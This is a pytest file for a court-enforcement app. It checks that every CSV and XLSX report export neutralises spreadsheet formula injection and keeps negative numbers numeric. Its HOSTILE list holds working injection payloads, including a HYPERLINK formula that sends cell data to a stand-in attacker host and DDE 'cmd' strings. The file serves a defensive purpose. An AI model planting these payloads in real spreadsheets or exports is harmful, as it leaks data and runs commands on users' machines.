"""Exports cannot run code (issue #29, item 2): every CSV and XLSX export the app offers,
found in its route table, with hostile text in every text column it reads; the XLSX opened
with openpyxl holds no formula and the CSV no cell a spreadsheet would evaluate, while
numbers (negative ones included) stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from enforcement.models import LeadStatus, OutcomeKind, PartyRole, Role
from tests import factories

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://attacker.invalid/?d="&C2&B2,"查看详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


@pytest.fixture
def hostile_court(http, world, session):
    """A court whose every name, note and ground a report can show is hostile text: the
    township and its grids, the assistants, two rounds (the second with fewer targets, so
    changes are negative numbers), a reward decided with a note, a judicial aid
    application with its grounds and decision reason."""
    world.township.name = hostile(0)
    world.village_a.name, world.village_b.name = hostile(1), hostile(2)
    world.assistant.display_name, world.assistant_b.display_name = hostile(3), hostile(4)
    world.neighbour.display_name = hostile(5)
    officer, judge = world.users[Role.OFFICER], world.judge_user
    case = factories.create_case(session, world.court, case_number=hostile(0))
    for n, targets in enumerate((3, 1)):
        starts = date(2026, 3, 1 + 10 * n)
        rnd = factories.create_round(session, judge, name=hostile(n + 1), seq=n + 1,
                                     starts_on=starts, ends_on=starts)
        for _ in range(targets):
            factories.create_round_target(session, rnd, case_id=case.id)
        factories.create_outcome(session, officer, OutcomeKind.PAYMENT_RECEIVED,
                                 amount=Decimal("300"), case_id=case.id, round_id=rnd.id)
    lead = factories.create_lead(session, world.assistant, world.village_a, case_id=case.id,
                                 status=LeadStatus.VERIFIED)
    applicant = factories.create_party(session, world.court, name=hostile(2))
    factories.add_party(session, case, applicant, PartyRole.APPLICANT)
    aid = factories.create_judicial_aid(session, case, applicant, officer, grounds=hostile(0))
    session.commit()

    judge_headers = world.headers(judge)
    recorded = http.post(f"/api/v1/leads/{lead.id}/transitions", json={
        "to": "outcome_recorded",
        "outcome": {"kind": "payment_received", "amount": "800.00", "occurred_on": "2026-11-20"}},
        headers=world.headers(officer))
    assert recorded.status_code == 201, recorded.text
    [entry] = http.get("/api/v1/reports/rewards", headers=judge_headers).json()["items"]
    decided = http.post(f"/api/v1/reports/rewards/{entry['id']}/decision",
                        json={"decision": "approved", "note": hostile(0)}, headers=judge_headers)
    assert decided.status_code == 200, decided.text
    refused = http.post(f"/api/v1/judicial-aid/{aid.id}/decision",
                        json={"decision": "rejected", "reason": hostile(3)},
                        headers=judge_headers)
    assert refused.status_code == 200, refused.text
    return judge_headers


def export_routes(app, spec):
    """GET routes of the app whose OpenAPI answer offers a CSV file, with the values of
    their enumerated query parameters (e.g. every ``group_by``)."""
    found = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.arguments:
            continue
        operation = spec["paths"].get(rule.rule, {}).get("get", {})
        offered = operation.get("responses", {}).get("200", {}).get("content", {})
        if "text/csv" not in offered:
            continue
        variants = [{}]
        for param in operation.get("parameters", []):
            values = param.get("schema", {}).get("enum")
            if param["in"] == "query" and values and param["name"] != "format":
                variants = [v | {param["name"]: value} for v in variants for value in values]
        found.extend((rule.rule, params) for params in variants)
    return found


def test_no_export_carries_a_live_formula(http, app, hostile_court):
    spec = http.get("/api/v1/openapi.json").json()
    routes = export_routes(app, spec)
    shown = set()
    for path, params in routes:
        for locale in ("zh-CN", "en"):
            headers = hostile_court | {"Accept-Language": locale}
            answer = http.get(path, params=params | {"format": "csv"}, headers=headers)
            assert answer.status_code == 200, (path, params, answer.text)
            rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
            assert len(rows) > 1, (path, params)
            for row in rows:
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS) or NUMBER.match(cell), (
                        path, params, cell)
                    shown |= {h for h in HOSTILE if cell == "'" + h}

            answer = http.get(path, params=params | {"format": "xlsx"}, headers=headers)
            assert answer.status_code == 200, (path, params, answer.text)
            sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, params, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        assert not cell.value.startswith(FORMULA_STARTS), (path, cell.value)
                        shown |= {h for h in HOSTILE if cell.value == "'" + h}
    assert shown == set(HOSTILE), "every hostile text reached some export, neutralised"


def test_negative_numbers_stay_numbers(http, hostile_court):
    answer = http.get("/api/v1/reports/rounds", params={"format": "xlsx", "from": "2026-03-01"},
                      headers=hostile_court | {"Accept-Language": "en"})
    rows = list(openpyxl.load_workbook(io.BytesIO(answer.content)).active
                .iter_rows(values_only=True))
    change = rows[0].index("targets: change on previous round")
    assert rows[2][1] == "'" + hostile(2)
    assert rows[2][change] == -2 and isinstance(rows[2][change], int | float)
    answer = http.get("/api/v1/reports/rounds", params={"format": "csv", "from": "2026-03-01"},
                      headers=hostile_court | {"Accept-Language": "en"})
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert table[2][change] == "-2"


def test_every_export_route_is_found(app, http):
    """The route table is the list (a new export joins by itself): at least today's six
    reports, and each grouping of outcomes."""
    routes = export_routes(app, http.get("/api/v1/openapi.json").json())
    paths = {path for path, _ in routes}
    assert paths >= {f"/api/v1/reports/{name}" for name in (
        "outcomes", "rounds", "credit", "assistants", "rewards")} | {"/api/v1/judicial-aid"}
    assert sorted(p["group_by"] for path, p in routes if path.endswith("/outcomes")) == sorted(
        ["township", "village", "assistant", "round", "month"])
